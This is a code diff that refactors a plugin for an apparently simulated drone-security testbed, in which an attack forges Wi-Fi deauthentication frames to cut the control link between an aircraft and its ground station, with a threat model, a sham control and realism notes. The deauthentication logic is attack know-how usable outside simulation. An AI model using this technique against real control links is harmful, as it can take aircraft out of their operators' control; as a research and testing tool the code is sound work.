@@ -5,73 +5,64 @@ from __future__ import annotations
 from collections.abc import Iterator, Sequence
 from typing import Final, Literal
 
-from skyrange.attack.bases.transmission import Periodic, radiated_power, transmitter_place
-from skyrange.attack.contract import AirLink, AttackContext, Controls, ThreatModel
+import skyrange.plugin as sky
+from skyrange.attack.bases.transmission import radiated_power, transmitter_place
 from skyrange.attack.control_link.wifi_links import WIFI_LINKS, find_wifi_links
-from skyrange.attack.declaration import attack
 from skyrange.codec.wifi_management import FrameRequest, encode_deauthentication, pack_request
-from skyrange.contracts.params import Enu, Number
-from skyrange.contracts.plugins.fields import param
-from skyrange.core.time import NS_PER_MS, Time
 
 NOBODY: Final = b"\x02\x00\x00\x00\x00\x00"
 """The receiver of a sham's frames: a locally administered address that no radio has."""
 
 
-@attack(
+@sky.attack(
     "control_link.deauthenticate",
     technique="T0814",
     surface=("gcs", "medium"),
-    persists="acts",
     effect="the control link has no association, so that nothing passes in either direction",
-    threat=ThreatModel(
-        knowledge="channel and addresses of both radios, which every frame tells",
-        position="where both ends can decode its frames",
-        equipment="a Wi-Fi card that sends frames as they are handed to it",
-        budget="a frame of 30 bytes a link and period",
-    ),
-    controls=Controls(
-        load="the sham: the same frames at the same times, for an address that nobody has",
-        content="the same frames at a link that protects management frames",
-        placement="the same attacker beyond the range of both ends",
-    ),
+    knowledge="channel and addresses of both radios, which every frame tells",
+    position="where both ends can decode its frames",
+    equipment="a Wi-Fi card that sends frames as they are handed to it",
+    budget="a frame of 30 bytes a link and period",
+    load="the sham: the same frames at the same times, for an address that nobody has",
+    content="the same frames at a link that protects management frames",
+    placement="the same attacker beyond the range of both ends",
     realism={
         "reception": "simulated: power, noise and walls between attacker and receiver",
         "new association": "assumed: 400 ms by default; handoffs of 802.11 took 60 to 400 ms in measurements (Mishra, "
         "Shin & Arbaugh, 2003)",
     },
 )
-class Deauthenticate(Periodic):
+class Deauthenticate(sky.Periodic):
     """Ends the Wi-Fi association of a control link by forged deauthentication frames.
 
     In each period there is one frame to each receiver of each link, in the name of the link's other end.
     """
 
-    transmitter_m: Enu = transmitter_place("attacker")
+    transmitter_m: sky.Enu = transmitter_place("attacker")
     links: tuple[str, ...] = WIFI_LINKS
-    towards: Literal["both", "aircraft", "station"] = param(
+    towards: Literal["both", "aircraft", "station"] = sky.param(
         "Receivers of the frames; each frame is in the name of the link's other end.", default="both"
     )
-    power_dbm: Number = radiated_power(le=60)
-    period_ms: Number = param("Time between two rounds of frames, in milliseconds.", default=100.0, ge=1, le=60_000)
+    power_dbm: sky.Number = radiated_power(le=60)
+    period_ms: sky.Number = sky.param(
+        "Time between two rounds of frames, in milliseconds.", default=100.0, ge=1, le=60_000
+    )
 
-    targets: Sequence[AirLink]
+    targets: Sequence[sky.AirLink]
     power_cdbm: int
 
-    def prepare(self, context: AttackContext) -> None:
-        """Find the links."""
+    def prepare(self, context: sky.AttackContext) -> None:
         self.targets = list(find_wifi_links(context, self.links).values())
-        self.period_ns, self.power_cdbm = round(self.period_ms * NS_PER_MS), round(self.power_dbm * 100)
+        self.period_ns, self.power_cdbm = round(self.period_ms * sky.NS_PER_MS), round(self.power_dbm * 100)
 
-    def send(self, now: Time, number: int) -> Iterator[bytes]:
-        """The frames of a period."""
+    def send(self, now: sky.Time, number: int) -> Iterator[bytes]:
         for link in self.targets:
             if self.towards != "station":
                 yield self._frame(link, link.aircraft_address, link.station_address)
             if self.towards != "aircraft":
                 yield self._frame(link, link.station_address, link.aircraft_address)
 
-    def _frame(self, link: AirLink, destination: bytes, source: bytes) -> bytes:
+    def _frame(self, link: sky.AirLink, destination: bytes, source: bytes) -> bytes:
         destination = NOBODY if self.sham else destination
         frame = encode_deauthentication(destination, source, link.station_address, self.turn)
         return pack_request(FrameRequest(link.channel, self.power_cdbm, frame))
